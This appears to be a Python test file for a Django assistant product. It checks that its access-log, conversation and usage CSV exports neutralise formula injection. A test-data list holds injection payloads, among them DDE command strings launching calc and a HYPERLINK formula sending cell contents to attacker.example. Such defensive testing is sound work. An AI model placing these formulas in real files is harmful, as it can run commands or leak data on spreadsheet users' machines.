"""CSV formula injection: every CSV the product writes, with hostile text in every column
a person or a model can fill, read back as a spreadsheet and a line-based tool would.

The hostile text arrives by the real paths: users named by an administrator or single
sign-on, titles and feedback through the API of the live daphne, answers from the
upstream, reasons through the review service. The three CSV outputs (the admin's access
log export over HTTP, `export_conversations --format csv`, `usage_report --format csv`)
are then checked cell by cell (csv module) and physical line by physical line (every
kind of line break Python knows, which is more than any spreadsheet splits on).
"""

from __future__ import annotations

import csv
import io
import unicodedata
from dataclasses import dataclass

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.db import connection
from django.urls import reverse

from assistant import review
from assistant.models import Conversation, Message
from tests.helpers.chat import create_conversation, fake, send, wait_for_final
from tests.helpers.live import session_client

FORMULA = set("=+-@\uff1d\uff0b\uff0d\uff20")
# Text a model, a user or an administrator can write, each shaped to start a formula in a
# cell or on a line of its own: after a line break of each kind, after invisible or
# control characters, after spaces, with a tab, plain.
HOSTILE = [
    "x\r=cmd|' /C calc'!A0",
    "x\r\n=cmd|' /C calc'!A0",
    "x\n+cmd|' /C calc'!A0",
    "\x0b=1+1",
    "\x0c=1+1",
    " =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff@SUM(1)",
    "\u2028@SUM(1)",
    "x\u2029-1+1",
    "x\x85=1",
    "x\x1e=1",
    "x\x1c@A1",
    "-2+3",
    "+1",
    "@SUM(1)",
    '=HYPERLINK("http://attacker.example/?x="&A1)',
    "\t=1",
    "\r=1",
    "\x1b=1",
    "\x7f=1",
    "x\x9b=1",
    "\uff1d1+1",
    'a,b"c\n"d,e',
    "- a Markdown list\n- =its second item",
    "\x00=1",  # NUL: from an administrator or the database; answers turn it into U+FFFD
]
# PostgreSQL cannot store NUL in text: there it cannot reach an export.
STORABLE = [text for text in HOSTILE if "\x00" not in text or connection.vendor == "sqlite"]


def _invisible(char: str) -> bool:
    return char.isspace() or char == "\ufffd" or unicodedata.category(char) in {"Cc", "Cf", "Zs", "Zl", "Zp"}


def _starts_formula(line: str) -> bool:
    if line[:1] in {"\t", "\r"}:
        return True
    first = next((char for char in line if not _invisible(char)), "")
    return first in FORMULA


def assert_inert(text: str, header: list[str], rows: int) -> list[list[str]]:
    """`text` is CSV of `header` and `rows` rows, no cell or physical line of which a
    spreadsheet would run as a formula; the parsed rows (header first)."""
    # Line by line, on every line break there is (splitlines: CR, LF, VT, FF, FS, GS, RS,
    # NEL, U+2028, U+2029): no line starts a formula.
    lines = text.splitlines()
    formulas = [line for line in lines if _starts_formula(line)]
    assert formulas == [], formulas
    # As a spreadsheet reads it: every row in the header's columns, no cell a formula, no
    # control character but the line feeds and tabs of the text.
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert parsed[0] == header
    assert len(parsed) == rows + 1, parsed
    for row in parsed:
        assert len(row) == len(header), row
        for cell in row:
            for line in cell.split("\n"):
                assert not _starts_formula(line), (cell, row)
            controls = {char for char in cell if unicodedata.category(char) == "Cc"} - {"\n", "\t"}
            assert not controls | ({"\u2028", "\u2029"} & set(cell)), (cell, row)
    return parsed


@dataclass
class Hostile:
    users: list
    conversations: list[Conversation]
    answers: list[Message]


def _hostile_user(index: int, name: str):
    # Usernames are free text to the database: an administrator's, a directory's through
    # single sign-on (create_user validates nothing).
    return get_user_model().objects.create_user(name[:140] + f"#{index}", password=None)


@pytest.fixture
def hostile(live, upstream) -> Hostile:
    """One user per hostile text, named by it, with a conversation titled by the next one,
    a question answered by the upstream with the one after, rated down with a comment."""
    users, conversations, answers = [], [], []
    for index, name in enumerate(STORABLE):
        user = _hostile_user(index, name)
        title = HOSTILE[(index + 1) % len(HOSTILE)].replace("\x00", "")  # the API refuses NUL
        answer_text = HOSTILE[(index + 2) % len(HOSTILE)]
        comment = HOSTILE[(index + 3) % len(HOSTILE)].replace("\x00", "")
        with session_client(live, user) as client:
            conversation = create_conversation(client, title=title or "-", model="fake-model")
            sent = send(client, conversation, fake(text=answer_text))
            answer = wait_for_final(sent["assistant_message"]["id"])
            rated = client.post(
                f"/api/messages/{answer.pk}/feedback/", json={"rating": "down", "comment": comment}
            )
            assert rated.status_code == 200, rated.text
        users.append(user)
        conversations.append(Conversation.objects.get(pk=conversation["id"]))
        answers.append(answer)
    return Hostile(users, conversations, answers)


def test_csv_formula_injection_in_the_access_log_export_is_inert(hostile, rita_http):
    # Reviewers named by hostile text read hostile owners' conversations for hostile reasons.
    for index, conversation in enumerate(hostile.conversations):
        reviewer = hostile.users[(index + 1) % len(hostile.users)]
        review.access_record(reviewer=reviewer, conversation=conversation, reason=STORABLE[index])

    response = rita_http.get(reverse("admin:assistant_accesslog_export"))

    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    rows = assert_inert(response.text, review.ACCESS_LOG_COLUMNS, len(hostile.conversations))
    # The text is still there to read, behind its marks.
    assert any("cmd|' /C calc'!A0" in row[4] for row in rows[1:])
    assert {row[3] for row in rows[1:]} == {str(c.pk) for c in hostile.conversations}


def test_csv_formula_injection_in_the_conversation_export_is_inert(hostile):
    out = io.StringIO()
    call_command(
        "export_conversations",
        "--reason",
        "Revision der Formeln 4711",
        "--actor",
        "=ops|' /C calc'!A0",
        "--format",
        "csv",
        stdout=out,
        stderr=io.StringIO(),
    )

    from assistant.staff.export import CSV_CONVERSATION_COLUMNS, CSV_MESSAGE_COLUMNS

    header = CSV_CONVERSATION_COLUMNS + CSV_MESSAGE_COLUMNS
    rows = assert_inert(out.getvalue(), header, 2 * len(hostile.conversations))
    contents = [row[header.index("content")] for row in rows[1:]]
    assert any("cmd|' /C calc'!A0" in content for content in contents)
    assert {row[0] for row in rows[1:]} == {str(c.pk) for c in hostile.conversations}


def test_csv_formula_injection_in_the_usage_report_is_inert(hostile):
    out = io.StringIO()
    call_command("usage_report", "--format", "csv", "--by", "user,model", stdout=out, stderr=io.StringIO())

    rows = assert_inert(
        out.getvalue(),
        ["user", "model", "answers", "prompt_tokens", "completion_tokens"],
        len(hostile.users),
    )
    assert {row[2] for row in rows[1:]} == {"1"}
